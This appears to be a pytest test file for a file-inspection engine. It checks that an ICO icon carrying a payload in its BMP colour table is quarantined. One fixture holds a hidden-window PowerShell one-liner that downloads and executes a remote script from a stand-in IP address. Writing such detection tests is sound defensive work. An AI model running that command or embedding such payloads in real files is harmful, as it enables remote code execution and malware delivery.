"""An ICO/CUR entry's BMP colour table is judged like a BMP's (agent/inspect/ico.py).

An icon image stored as a DIB is a BITMAPINFOHEADER (biClrUsed at offset 32), its RGBQUAD
colour table, the XOR pixels and the 1-bit AND mask. A PNG entry is walked as a PNG (its
value chunks: tests/test_png_chunk_content.py).
"""

from __future__ import annotations

import base64
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SIDE = 32  # pixels
TABLE_BYTES = 256 * 4
DIRECTORY_BYTES = 6 + 16  # header, one entry


def _icon(table: bytes) -> bytes:
    """One 32x32 8-bit DIB icon whose colour table is `table`."""
    header = struct.pack("<IiiHHIIiiII", 40, SIDE, SIDE * 2, 1, 8, 0, 0, 0, 0, 256, 0)
    image = header + table + bytes(SIDE * SIDE) + bytes(4 * SIDE)  # XOR pixels, AND mask
    entry = struct.pack("<BBBBHHII", SIDE, SIDE, 0, 0, 1, 8, len(image), DIRECTORY_BYTES)
    return struct.pack("<HHH", 0, 1, 1) + entry + image


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_an_icons_colour_table_is_quarantined(kind: str) -> None:
    report = inspect_bytes("app.ico", _icon(PAYLOADS[kind][:TABLE_BYTES].ljust(TABLE_BYTES)))
    assert report.verdict.value == "quarantine"
    assert "ico.payload_in_metadata" in {f.code for f in report.findings}


def test_a_grey_ramp_colour_table_stays_clean() -> None:
    ramp = b"".join(bytes([value, value, value, 0]) for value in range(256))
    assert inspect_bytes("app.ico", _icon(ramp)).verdict.value == "clean"
